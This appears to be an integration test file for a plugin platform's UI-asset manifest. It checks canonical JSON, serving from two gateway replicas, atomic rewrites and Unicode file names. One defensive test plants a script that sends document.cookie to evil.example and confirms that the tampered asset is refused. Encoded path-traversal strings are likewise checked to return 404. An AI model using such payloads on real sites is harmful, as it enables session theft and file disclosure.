/**
 * The UI-asset manifest. 404 before the registry has published one; then canonical JSON
 * (RFC 8785) listing the active plugins' entries, styles and workspace templates; the files it names are
 * served by the gateway; while plugins are activated and deactivated in a loop, every read through two
 * gateway replicas is a whole, parseable manifest.
 */
import { createPrivateKey } from "node:crypto";
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { connect } from "@nats-io/transport-node";
import { hashDirectory, packDirectory, signManifest } from "@svc/plugin-package";
import { AssetStore } from "@svc/plugin-package/store";
import { gatewayService } from "@svc/service-gateway";
import { pluginRegistryService } from "@svc/service-plugin-registry";
import { rbacService } from "@svc/service-rbac";
import canonicalize from "canonicalize";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { EXAMPLE_PLUGIN_DIR, examplePackage } from "../scripts/lib/example-plugin.js";
import { pluginStackEnv } from "./plugins/runtime-fixtures.js";
import { createHarness } from "./support/harness.js";
import { bearerApi, http, installPackage } from "./support/http.js";
import { mintToken } from "./support/tokens.js";
import { eventually } from "./support/wait.js";

const h = await createHarness();
const work = mkdtempSync(join(tmpdir(), "svc-manifest-"));
const MANIFEST = "/manifests/plugin-ui-assets.manifest.json";
let gateways: string[] = [];
let operator: string;

const env = pluginStackEnv(work, { dev: true });

const api = bearerApi(() => gateways[0] as string);
const asOperator = (method: string, path: string, body?: unknown) => api(method, path, operator, body);

interface Manifest {
  generatedAtUtc: string;
  entries: Array<{ pluginId: string; surface: string; entryPath: string }>;
  styleEntries: Array<{ pluginId: string; surface: string; stylePath: string }>;
  workspaceTemplates: Array<{ pluginId: string; templatePath: string }>;
}

async function manifest(base = gateways[0]): Promise<Manifest | null> {
  const r = await http(`${base}${MANIFEST}`);
  if (r.status === 404) return null;
  expect(r.status).toBe(200);
  expect(r.headers["content-type"]).toMatch(/^application\/json/);
  // Canonical JSON: exactly what RFC 8785 makes of the same value.
  expect(r.text).toBe(canonicalize(JSON.parse(r.text)));
  return r.json<Manifest>();
}

beforeAll(async () => {
  await h.start(rbacService, env);
  gateways = [
    (await h.start(gatewayService, env)).hooks.httpAddress as string,
    (await h.start(gatewayService, env)).hooks.httpAddress as string,
  ];
  operator = await mintToken({ scope: "platform", roles: ["superadmin"] });
});

afterAll(async () => {
  await h.stopAll();
  rmSync(work, { recursive: true, force: true });
});

describe("the UI-asset manifest", () => {
  it("is 404 before the first publication, then lists the active plugins' assets", async () => {
    const before = await http(`${gateways[0]}${MANIFEST}`);
    expect(before.status).toBe(404);
    expect(before.headers["content-type"]).toMatch(/^application\/problem\+json/);

    await h.start(pluginRegistryService, env);
    // The registry publishes at start: nothing is active yet.
    const empty = await eventually(manifest, (m) => m !== null);
    expect(empty).toMatchObject({ entries: [], styleEntries: [], workspaceTemplates: [] });

    const installed = await installPackage(gateways[0] as string, operator, await examplePackage());
    expect(installed.status).toBe(201);
    expect((await asOperator("POST", "/api/plugins/hello/activate")).status).toBe(200);
    const listed = await eventually(manifest, (m) => (m?.entries.length ?? 0) > 0);
    expect(listed).toEqual({
      generatedAtUtc: expect.any(String),
      entries: [
        { pluginId: "hello", surface: "workspace", entryPath: "hello/1.0.0/ui/hello.js" },
        { pluginId: "hello", surface: "admin", entryPath: "hello/1.0.0/ui/admin.js" },
      ],
      styleEntries: [{ pluginId: "hello", surface: "workspace", stylePath: "hello/1.0.0/ui/hello.css" }],
      workspaceTemplates: [{ pluginId: "hello", templatePath: "views/surface/index.njk" }],
    });
    expect(Number.isNaN(Date.parse(listed?.generatedAtUtc ?? ""))).toBe(false);

    // The files it names, from either gateway.
    for (const base of gateways) {
      const script = await http(`${base}/plugin-assets/hello/1.0.0/ui/hello.js`);
      expect(script.status).toBe(200);
      expect(script.headers["content-type"]).toMatch(/^text\/javascript/);
      expect(script.headers["cache-control"]).toContain("immutable");
      expect(script.text).toContain("__SVC_WORKSPACE_CONTEXT__");
      const style = await http(`${base}/plugin-assets/hello/1.0.0/ui/hello.css`);
      expect(style.headers["content-type"]).toMatch(/^text\/css/);
    }
    expect((await http(`${gateways[0]}/plugin-assets/hello/1.0.0/registry.json`)).status).toBe(404);
    expect((await http(`${gateways[0]}/plugin-assets/hello/1.0.0/ui/../registry.json`)).status).toBe(404);
    expect((await http(`${gateways[0]}/plugin-assets/hello/9.9.9/ui/hello.js`)).status).toBe(404);
  });

  it("serves an asset only while its stored bytes match the verified package", async () => {
    // Someone with write access to the object store replaces the script every workspace loads.
    const nc = await connect(h.natsOptions());
    const store = new AssetStore(nc, h.env.SVC_SUBJECT_PREFIX as string, 1);
    const genuine = await store.get("hello/1.0.0/ui/hello.js");
    expect(genuine).not.toBeNull();
    await store.put(
      "hello/1.0.0/ui/hello.js",
      Buffer.from("fetch('https://evil.example/?c='+document.cookie)"),
    );
    try {
      for (const base of gateways) {
        const tampered = await http(`${base}/plugin-assets/hello/1.0.0/ui/hello.js`);
        expect(tampered.status).toBe(404);
        expect(tampered.text).not.toContain("evil.example");
      }
      // The untouched style still serves; the genuine bytes serve again once restored.
      expect((await http(`${gateways[0]}/plugin-assets/hello/1.0.0/ui/hello.css`)).status).toBe(200);
      await store.put("hello/1.0.0/ui/hello.js", genuine as Buffer);
      expect((await http(`${gateways[0]}/plugin-assets/hello/1.0.0/ui/hello.js`)).status).toBe(200);
    } finally {
      await nc.close();
    }
  });

  it("is never partial while it is rewritten in a loop, on either replica", async () => {
    let running = true;
    let reads = 0;
    const readers = gateways.map(async (base) => {
      while (running) {
        const r = await http(`${base}${MANIFEST}`);
        expect(r.status).toBe(200);
        const m = JSON.parse(r.text) as Manifest; // throws on a partial document
        expect(Array.isArray(m.entries) && Array.isArray(m.styleEntries)).toBe(true);
        reads++;
      }
    });
    for (let i = 0; i < 10; i++) {
      expect((await asOperator("POST", "/api/plugins/hello/deactivate")).status).toBe(200);
      expect((await asOperator("POST", "/api/plugins/hello/activate")).status).toBe(200);
    }
    running = false;
    await Promise.all(readers);
    expect(reads).toBeGreaterThan(20);
    // Deactivated, it leaves the manifest.
    expect((await asOperator("POST", "/api/plugins/hello/deactivate")).status).toBe(200);
    expect(await eventually(manifest, (m) => m?.entries.length === 0)).toMatchObject({ entries: [] });
  });

  it("stores and serves UI files named beyond Latin-1 (a full-width letter, an emoji)", async () => {
    // The example, with two such files under ui/, signed again with the development key.
    const dir = join(work, "wide-names");
    cpSync(EXAMPLE_PLUGIN_DIR, dir, { recursive: true });
    writeFileSync(join(dir, "ui", "Ａ.txt"), "full width");
    writeFileSync(join(dir, "ui", "😀.txt"), "emoji");
    const registry = JSON.parse(readFileSync(join(dir, "registry.json"), "utf8")) as { version: string };
    registry.version = "1.0.1";
    writeFileSync(join(dir, "registry.json"), JSON.stringify(registry, null, 2));
    const key = createPrivateKey(readFileSync(join(EXAMPLE_PLUGIN_DIR, "..", "dev-signer.pem")));
    rmSync(join(dir, "plugin.signature.json"));
    writeFileSync(
      join(dir, "plugin.signature.json"),
      JSON.stringify(
        signManifest({ pluginId: "hello", version: "1.0.1", files: await hashDirectory(dir) }, key),
      ),
    );
    const updatedByUpload = await api(
      "POST",
      "/api/plugins/hello/update",
      operator,
      (await packDirectory(dir)).bytes,
      {
        contentType: "application/gzip",
      },
    );
    expect(updatedByUpload.status, updatedByUpload.text).toBe(200);
    expect((await asOperator("POST", "/api/plugins/hello/activate")).status).toBe(200);
    for (const [name, body] of [
      ["Ａ.txt", "full width"],
      ["😀.txt", "emoji"],
    ] as const) {
      const served = await eventually(
        () => http(`${gateways[0]}/plugin-assets/hello/1.0.1/ui/${encodeURIComponent(name)}`),
        (r) => r.status === 200,
      );
      expect(served.text, name).toBe(body);
    }
    expect((await http(`${gateways[0]}/plugin-assets/hello/1.0.1/ui/hello.js`)).status).toBe(200);
    // Wider names, and still no way out of ui/.
    for (const out of ["ui/%2E%2E/registry.json", "ui/..%2Fregistry.json", "ui/%5C..%5Cregistry.json"]) {
      expect((await http(`${gateways[0]}/plugin-assets/hello/1.0.1/${out}`)).status, out).toBe(404);
    }
  });

  it("is served at a configured BackendHost__PluginManifestUrl instead of the default", async () => {
    const custom = (
      await h.start(gatewayService, { ...env, BackendHost__PluginManifestUrl: "/ui/plugins.json" })
    ).hooks.httpAddress as string;
    const moved = await eventually(
      () => http(`${custom}/ui/plugins.json`),
      (r) => r.status === 200,
    );
    expect(moved.json<Manifest>().generatedAtUtc).toEqual(expect.any(String));
    expect(moved.json()).toEqual(await manifest());
    expect((await http(`${custom}${MANIFEST}`)).status).toBe(404);
  });
});
